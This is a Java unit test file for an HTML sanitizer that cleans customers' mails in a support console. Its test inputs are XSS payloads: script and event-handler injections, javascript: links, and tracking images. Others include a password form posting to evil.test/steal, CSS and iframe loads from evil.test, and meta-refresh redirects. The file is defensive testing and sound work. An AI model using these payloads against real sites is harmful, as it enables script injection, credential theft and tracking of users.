package eu.jdservices.caso.console;

import eu.jdservices.caso.intake.ParsedMail;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile HTML from customers' mails comes out harmless.
 */
class SafeHtmlTests {

	private final SafeHtml safeHtml = new SafeHtml();

	@Test
	void keepsTheFormattingOfAnOrdinaryMail() {
		assertThat(
				this.safeHtml.clean("<p>Hola <b>equipo</b></p><ul><li>uno</li></ul><table><tr><td>1</td></tr></table>"))
			.isEqualTo(
					"<p>Hola <b>equipo</b></p><ul><li>uno</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>");
	}

	@Test
	void htmlLongerThanCasoReadsIsNotShownFormatted() {
		String paragraph = "<p>Registro de la copia de seguridad</p>";
		String longHtml = paragraph.repeat(ParsedMail.MAX_TEXT / paragraph.length() + 1);

		assertThat(this.safeHtml.clean(longHtml)).isEmpty();
		assertThat(this.safeHtml.clean(paragraph.repeat(100))).contains("Registro de la copia");
	}

	@Test
	void dropsScriptTagsAndTheirCode() {
		assertThat(this.safeHtml.clean("<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>"))
			.isEqualTo("<p>a</p>");
	}

	@Test
	void dropsEventHandlers() {
		assertThat(this.safeHtml.clean("<p onclick=\"alert(1)\" onmouseover='alert(2)'>a</p><body onload=alert(3)>"))
			.isEqualTo("<p>a</p>");
	}

	@Test
	void dropsImagesSoNoRemoteSourceLeaksThatTheMailWasRead() {
		String clean = this.safeHtml.clean(
				"<img src=\"http://tracker.evil.test/p.gif?u=1\"><img src=x onerror=alert(1)><img src=\"data:image/png;base64,AAAA\">ok");

		assertThat(clean).isEqualTo("ok").doesNotContain("<img", "evil.test", "onerror");
	}

	@Test
	void dropsJavascriptLinksAndForcesRelOnTheOthers() {
		String clean = this.safeHtml.clean("<a href=\"javascript:alert(1)\">x</a>"
				+ "<a href=\"JaVaScRiPt:alert(2)\">y</a><a href=\"https://ok.test/\" target=\"_blank\" rel=\"opener\">z</a>");

		assertThat(clean).doesNotContainIgnoringCase("javascript")
			.doesNotContain("target", "opener\"")
			.contains("<a rel=\"noopener noreferrer nofollow\">x</a>")
			.contains("<a href=\"https://ok.test/\" rel=\"noopener noreferrer nofollow\">z</a>");
	}

	@Test
	void dropsStylesAndCssTricks() {
		String clean = this.safeHtml
			.clean("<style>@import url(http://evil.test/a.css); p{background:url(http://evil.test/)}</style>"
					+ "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.test/x)\">a</p>"
					+ "<link rel=stylesheet href=http://evil.test/b.css>");

		assertThat(clean).isEqualTo("<p>a</p>");
	}

	@Test
	void dropsFormsFramesAndSvg() {
		String clean = this.safeHtml.clean("<form action=\"http://evil.test/steal\"><input name=\"password\">"
				+ "<button formaction=\"http://evil.test/\">Entrar</button></form>"
				+ "<iframe src=\"http://evil.test/\"></iframe><svg onload=\"alert(1)\"><circle r=\"5\"/></svg>"
				+ "<object data=\"http://evil.test/x.swf\"></object><embed src=\"http://evil.test/y\">"
				+ "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/\"><base href=\"http://evil.test/\">");

		assertThat(clean).doesNotContain("<form", "<input", "<button", "<iframe", "<svg", "onload", "<object", "<embed",
				"<meta", "<base", "evil.test");
	}

	@Test
	void nothingToShowForNoHtml() {
		assertThat(this.safeHtml.clean(null)).isEmpty();
		assertThat(this.safeHtml.clean("  ")).isEmpty();
	}

}
